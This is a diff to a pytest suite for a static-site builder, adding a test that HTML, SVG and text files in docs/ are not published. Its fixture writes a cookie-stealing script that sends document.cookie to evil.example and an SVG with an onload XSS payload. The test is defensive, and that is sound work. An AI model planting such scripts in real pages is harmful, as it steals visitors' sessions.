@@ -412,6 +412,11 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
         "en": '---\ntitle: "Prices < 5 & quotes"\nsummary: "Less < 5 & more > 3"\n---\n\nText.\n'})
     assert summary.is_dir()
     phone_photo(root / "docs" / "assets" / "team.jpg", (800, 600))
+    (root / "docs" / "landing.html").write_text('<script src="assets/steal.js"></script>', encoding="utf-8")
+    (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
+    (root / "docs" / "methodology" / "scheme.svg").write_text('<svg onload="alert(1)"/>', encoding="utf-8")
+    (root / "docs" / "contacts.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
+    (root / "docs" / "methodology" / "guide.pdf").write_bytes(b"%PDF-1.4\n% a methodology\n")
     about = root / "docs" / "about.uk.md"
     about.write_text(about.read_text(encoding="utf-8") + "\n![Команда хабу](assets/team.jpg)\n", encoding="utf-8")
     logo = Image.new("RGB", (900, 300), (0, 90, 160))
@@ -519,6 +524,18 @@ def test_stray_and_unused_files_are_not_published_and_check_says_so(hostile: Bui
         hostile.root / "news/2026/family-visit/report.pdf").read_bytes(), "a linked PDF is published as it is"
     strays = {Path(p["file"]).name for p in hostile.findings("family-visit", "stray-file")}
     assert strays == {"notes.txt", "spare.jpg"}
+
+
+def test_docs_publishes_pages_pictures_pdfs_and_the_sites_own_code_only(hostile: Built) -> None:
+    """A page of HTML or an SVG drawing in docs/ would run its scripts on the site's address when opened, a text file
+    may be a private note: none is published, and `hub check` names each. A script in docs/assets/ is published, as
+    the site's own are, but nothing can load it: no page holds a script element or a style of a writer's."""
+    for name in ("landing.html", "methodology/scheme.svg", "contacts.txt"):
+        assert not list(hostile.site.rglob(Path(name).name)), name
+    assert (hostile.site / "methodology" / "guide.pdf").is_file() and (hostile.site / "assets" / "hub.css").is_file()
+    strays = {p["file"] for p in hostile.check if p["code"] == "stray-file" and p["file"].startswith("docs/")}
+    assert strays == {"docs/landing.html", "docs/methodology/scheme.svg", "docs/contacts.txt"}
+    assert not [page for page in reader_pages(hostile.site) if "steal.js" in page.read_text(encoding="utf-8")]
 
 
 def test_a_scheduled_posts_picture_is_no_false_alarm_and_not_published(hostile: Built) -> None:
